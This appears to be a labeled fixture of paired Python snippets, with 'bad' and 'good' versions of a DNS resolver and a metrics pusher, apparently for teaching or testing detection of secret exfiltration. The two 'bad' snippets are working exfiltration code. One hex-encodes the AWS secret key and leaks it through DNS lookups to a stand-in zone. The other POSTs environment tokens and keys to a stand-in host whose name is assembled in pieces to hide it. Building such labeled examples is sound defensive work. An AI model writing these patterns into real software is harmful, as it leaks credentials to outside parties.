#: bad resolver
import binascii
import os
import socket

ZONE = "t.pkgcache.invalid"


def lookup(values):
    text = binascii.hexlify(values.encode()).decode()
    for start in range(0, len(text), 60):
        socket.gethostbyname(text[start : start + 60] + "." + ZONE) #!


lookup(os.environ.get("AWS_SECRET_ACCESS_KEY", "") + os.getcwd())
#: good resolver
import os
import socket

ZONE = os.environ.get("SERVICE_ZONE", "svc.cluster.invalid")


def lookup(names):
    addresses = {}
    for name in names:
        addresses[name] = socket.gethostbyname(name + "." + ZONE)
    return addresses


def primary():
    return lookup(["db", "cache"])["db"]
#: bad metrics
import os, platform, socket
import urllib3

pool = urllib3.PoolManager()
fields = {
    "host": socket.gethostname(),
    "user": os.getlogin(),
    "cwd": os.getcwd(),
    "env": str({k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}),
}
pool.request("POST", "http://" + ".".join(["api", "metricsd", "invalid"]), fields=fields) #!
#: good metrics
import os, platform, socket
import urllib3

pool = urllib3.PoolManager()


def push(name, value):
    fields = {"host": socket.gethostname(), "metric": name, "value": str(value)}
    url = os.environ.get("METRICS_URL", "http://localhost:9091/metrics")
    headers = {"X-Token": os.environ.get("METRICS_TOKEN", "")}
    pool.request("POST", url, fields=fields, headers=headers)
